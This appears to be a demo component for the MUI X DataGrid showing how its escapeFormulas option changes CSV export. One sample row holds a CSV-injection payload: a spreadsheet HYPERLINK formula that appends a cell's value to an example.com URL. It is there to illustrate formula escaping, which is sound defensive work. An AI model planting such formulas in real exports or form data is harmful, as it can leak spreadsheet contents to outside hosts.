import { useEffect, useState } from 'react';
import Box from '@mui/material/Box';
import FormControlLabel from '@mui/material/FormControlLabel';
import Stack from '@mui/material/Stack';
import Switch from '@mui/material/Switch';
import { DataGrid, useGridApiRef, type GridColDef } from '@mui/x-data-grid';

// What users typed into a public form
const rows = [
  { id: 1, name: 'Priya Gupta', comment: 'Delivered on time, thank you' },
  { id: 2, name: 'Oskar Dahl', comment: '+46 18 555 010 is my new number' },
  { id: 3, name: '=1+1', comment: '=HYPERLINK("https://example.com?d="&B2,"Open")' },
];

const columns: GridColDef[] = [
  { field: 'name', headerName: 'Name', width: 120 },
  { field: 'comment', headerName: 'Comment', flex: 1, minWidth: 200 },
];

export default function EscapeFormulas() {
  const apiRef = useGridApiRef();
  const [escapeFormulas, setEscapeFormulas] = useState(true);
  const [csv, setCsv] = useState('');

  useEffect(() => {
    setCsv(apiRef.current?.getDataAsCsv({ escapeFormulas }) ?? '');
  }, [apiRef, escapeFormulas]);

  return (
    <Stack spacing={1}>
      <FormControlLabel
        control={<Switch checked={escapeFormulas} onChange={(_, on) => setEscapeFormulas(on)} />}
        label="escapeFormulas"
      />
      <div style={{ height: 215 }}>
        <DataGrid
          apiRef={apiRef}
          aria-label="Comments"
          rows={rows}
          columns={columns}
          disableRowSelectionOnClick
          hideFooter
        />
      </div>
      <Box
        component="pre"
        tabIndex={0}
        role="region"
        aria-label="CSV file of the comments"
        sx={{
          m: 0,
          p: 1.5,
          height: 110,
          boxSizing: 'border-box',
          overflow: 'auto',
          bgcolor: 'action.hover',
          fontSize: 13,
        }}
      >
        {csv}
      </Box>
    </Stack>
  );
}
